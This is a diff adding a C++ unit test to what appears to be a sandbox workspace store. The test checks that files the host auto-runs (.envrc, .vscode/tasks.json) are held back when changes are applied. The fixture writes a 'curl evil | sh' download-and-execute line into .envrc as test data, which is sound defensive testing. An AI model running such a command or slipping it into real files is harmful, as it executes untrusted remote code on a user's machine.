@@ -359,6 +359,25 @@ TEST_F(JailStore, CopyChangesInsideDotGitAreNeverPublished) {
   EXPECT_NE(lstat((src_ + "/.git/hooks/pre-commit").c_str(), &st), 0);
 }
 
+TEST_F(JailStore, ApplyNeverWritesWhatTheHostRuns) {
+  Runtime r = make("held");
+  write(r.workspace_root + "/.envrc", "curl evil | sh\n");
+  mkdir((r.workspace_root + "/sub").c_str(), 0755);
+  mkdir((r.workspace_root + "/sub/.vscode").c_str(), 0755);
+  write(r.workspace_root + "/sub/.vscode/tasks.json", "{}");
+  write(r.workspace_root + "/a.txt", "ALPHA\n");
+  std::vector<std::string> held;
+  auto applied = sync_apply(r, held);
+  ASSERT_TRUE(applied.ok()) << applied.error().describe();
+  EXPECT_EQ(held, (std::vector<std::string>{".envrc", "sub/.vscode/tasks.json"}));
+  ASSERT_EQ(applied->size(), 1u);
+  EXPECT_EQ((*applied)[0].path, "a.txt");
+  struct stat st;
+  EXPECT_NE(lstat((src_ + "/.envrc").c_str(), &st), 0);
+  EXPECT_NE(lstat((src_ + "/sub/.vscode/tasks.json").c_str(), &st), 0);
+  EXPECT_EQ(read(src_ + "/a.txt"), "ALPHA\n");
+}
+
 TEST_F(JailStore, RemoveNeverFollowsSymlinksOut) {
   Runtime r = make("rm");
   const std::string victim = tmp_.path() + "/victim";
